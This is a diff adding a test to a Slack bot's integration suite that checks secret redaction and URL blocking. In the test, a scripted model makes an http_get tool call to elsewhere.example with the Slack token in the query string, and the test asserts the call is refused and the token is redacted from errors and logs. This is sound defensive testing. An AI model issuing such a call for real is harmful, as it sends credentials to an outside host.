@@ -8,7 +8,13 @@ import { ACTION_IDS } from '../../src/slack/ids.js';
 import { askToDeploy, DEPLOYED, expectRedrawnCard, postedWith } from './support/deploy-case.js';
 import { callThenAnswer } from './support/model-brains.js';
 import { metricSum, readUntil, scrape } from './support/prom-text.js';
-import { PEOPLE, REQUESTER_TZ, type SlackWorld, startSlackWorld } from './support/slack-world.js';
+import {
+  PEOPLE,
+  REQUESTER_TZ,
+  SLACK_TOKEN,
+  type SlackWorld,
+  startSlackWorld,
+} from './support/slack-world.js';
 
 let w: SlackWorld;
 beforeAll(async () => {
@@ -65,5 +71,25 @@ describe('npm start: bot and worker in one process', { timeout: 60_000 }, () => 
     expect(moved('loopgate_model_tokens_total', { kind: 'input' })).toBeGreaterThan(0);
     // Gauges read from Redis at scrape time: nothing left pending.
     expect(metricSum(after, 'loopgate_approvals_pending')).toBe(0);
+  });
+
+  it("replaces the Slack token by [redacted] in a tool's error the model reads and in every log line", async () => {
+    let seen = '';
+    w.model.brain(
+      'echoed-secret',
+      callThenAnswer('http_get', { url: `https://elsewhere.example/?t=${SLACK_TOKEN}` }, (result) => {
+        seen = result;
+        return 'That address is not allowed.';
+      }),
+    );
+    const asked = await w.ask(w.newChannel(), PEOPLE.requester, w.model.tagged('echoed-secret', 'fetch it'));
+    expect((await w.ended(asked.runId)).state.status).toBe('completed');
+    expect(JSON.parse(seen)).toMatchObject({
+      ok: false,
+      error: { code: 'url_not_allowed', message: expect.stringContaining('?t=[redacted] is not allowed') },
+    });
+    const logged = w.processes.flatMap((p) => p.logs().map((line) => JSON.stringify(line)));
+    expect(logged.filter((line) => line.includes('tool call failed'))).toHaveLength(1);
+    expect(logged.filter((line) => line.includes(SLACK_TOKEN))).toEqual([]);
   });
 });
